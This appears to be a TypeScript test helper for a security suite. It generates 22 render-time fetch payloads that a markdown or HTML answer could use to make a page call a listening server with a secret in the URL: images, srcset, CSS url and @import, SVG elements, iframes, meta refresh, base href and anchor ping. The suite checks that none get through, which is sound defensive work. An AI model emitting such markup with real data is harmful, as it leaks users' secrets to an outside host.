/**
 * Every way model text could make the page fetch something as it renders, each pointing at its
 * own path of a listening server, so a request names the case that let it through. The security
 * suite shows them all in one answer and expects none to reach the server.
 */
export function renderTimeFetchCases(origin: string): Array<{ name: string; markdown: string }> {
  const leak = (name: string) => `${origin}/${name}.png?secret=abc123`
  return [
    { name: 'markdown-image', markdown: `![chart](${leak('markdown-image')})` },
    { name: 'markdown-image-reference', markdown: `![ref][logo]\n\n[logo]: ${leak('markdown-image-reference')}` },
    { name: 'html-img', markdown: `<img src="${leak('html-img')}" alt="inline">` },
    { name: 'img-srcset', markdown: `<img srcset="${leak('img-srcset')} 2x" alt="srcset">` },
    { name: 'picture-source', markdown: `<picture><source srcset="${leak('picture-source')}"><img alt="picture"></picture>` },
    { name: 'css-url-style-attribute', markdown: `<div style="background-image:url(${leak('css-url-style-attribute')})">styled</div>` },
    { name: 'css-style-element', markdown: `<style>@import url(${leak('css-style-element')}); p { background: url(${leak('css-style-element-2')}) }</style>` },
    { name: 'stylesheet-link', markdown: `<link rel="stylesheet" href="${leak('stylesheet-link')}">` },
    { name: 'preload-link', markdown: `<link rel="preload" as="image" href="${leak('preload-link')}">` },
    { name: 'svg-image', markdown: `<svg width="10" height="10"><image href="${leak('svg-image')}" width="10" height="10" /></svg>` },
    { name: 'svg-use', markdown: `<svg><use href="${leak('svg-use')}#a" /></svg>` },
    { name: 'svg-fe-image', markdown: `<svg><filter id="f"><feImage href="${leak('svg-fe-image')}" /></filter></svg>` },
    { name: 'video-poster', markdown: `<video poster="${leak('video-poster')}"></video>` },
    { name: 'audio-src', markdown: `<audio src="${leak('audio-src')}" autoplay></audio>` },
    { name: 'input-image', markdown: `<input type="image" src="${leak('input-image')}" alt="input">` },
    { name: 'table-background', markdown: `<table background="${leak('table-background')}"><tr><td>cell</td></tr></table>` },
    { name: 'iframe', markdown: `<iframe src="${leak('iframe')}"></iframe>` },
    { name: 'object-data', markdown: `<object data="${leak('object-data')}"></object>` },
    { name: 'embed-src', markdown: `<embed src="${leak('embed-src')}">` },
    { name: 'meta-refresh', markdown: `<meta http-equiv="refresh" content="0;url=${leak('meta-refresh')}">` },
    { name: 'base-href', markdown: `<base href="${origin}/base/"><img src="relative.png" alt="relative">` },
    { name: 'anchor-ping', markdown: `<a href="https://example.com/" ping="${leak('anchor-ping')}">pinged link</a>` }
  ]
}
